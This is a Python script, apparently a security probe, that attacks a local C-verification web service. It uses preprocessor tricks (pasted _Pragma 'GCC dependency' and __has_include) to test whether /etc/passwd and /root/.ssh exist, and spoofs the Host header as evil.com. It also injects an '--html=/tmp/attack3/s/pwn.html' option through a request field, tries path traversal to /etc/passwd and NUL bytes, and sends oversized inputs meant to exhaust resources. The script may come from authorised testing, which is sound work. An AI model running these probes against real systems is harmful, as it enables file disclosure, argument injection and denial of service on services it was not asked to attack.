import json,urllib.request,http.client,time
def req(method,path,body=None,headers={}):
    c=http.client.HTTPConnection('127.0.0.1',18917,timeout=15); h={'Host':'127.0.0.1:18917','Content-Type':'application/json'}; h.update(headers)
    c.request(method,path,body=body,headers=h); r=c.getresponse(); d=r.read(200000).decode(errors='replace'); return r.status,d
def check(src,prop='reach',eng='auto'):
    s,d=req('POST','/checks',json.dumps({'source':src,'property':prop,'engine':eng}))
    if s!=201: return s,d[:300]
    n=json.loads(d)['check']; s,d=req('GET',f'/checks/{n}/events'); return s,d[-400:]
P='#define P(a,b) a##b\n'
for f in ['/etc/passwd','/etc/nonexistent_zzz','/root/.bashrc','/root/.ssh','/work/main/Cargo.toml','/work/main/nope']:
    print(f,check(P+'P(_Pra,gma)("GCC dependency \\"%s\\"")\nint main(void){return 0;}\n'%f)[1][-220:].replace('\n',' '))
    print(f,check(P+'#if P(__has_,include)("%s")\nint main(void){return 0;}\n#else\n#error NOTHERE\n#endif\n'%f)[1][-220:].replace('\n',' '))
print(check('\ufeff# 1 "/etc/passwd"\nint x[0.5];int main(void){return 0;}\n'))
print('host',req('GET','/',headers={'Host':'evil.com:18917'})[0],req('GET','/',headers={'Host':'127.0.0.1:18917','Origin':'http://evil'})[0])
print('ctype',req('POST','/checks',json.dumps({'source':'int main(){}','property':'reach','engine':'auto'}),{'Content-Type':'text/plain'})[:2])
print('extra',req('POST','/checks',json.dumps({'source':'int main(){}','property':'reach','engine':'auto','define':['x']}))[:2])
print('prop',req('POST','/checks',json.dumps({'source':'int main(){}','property':'/etc/passwd','engine':'auto'}))[:2])
print('prop',req('POST','/checks',json.dumps({'source':'int main(){}','property':'--html=/tmp/attack3/s/pwn.html','engine':'auto'}))[:2])
print('nul',req('POST','/checks',json.dumps({'source':'int main(){}\u0000','property':'reach','engine':'auto'}))[:2])
print('trav',req('GET','/checks/../../etc/passwd')[:2],req('GET','/checks/1/report/../../x')[:2])
print('big',check('int a[1000000000000];int main(void){a[5]=1;return 0;}\n',eng='explore'))
print('ctor panic',check('__attribute__((constructor)) void reach_error(void){} int main(void){return 0;}'))
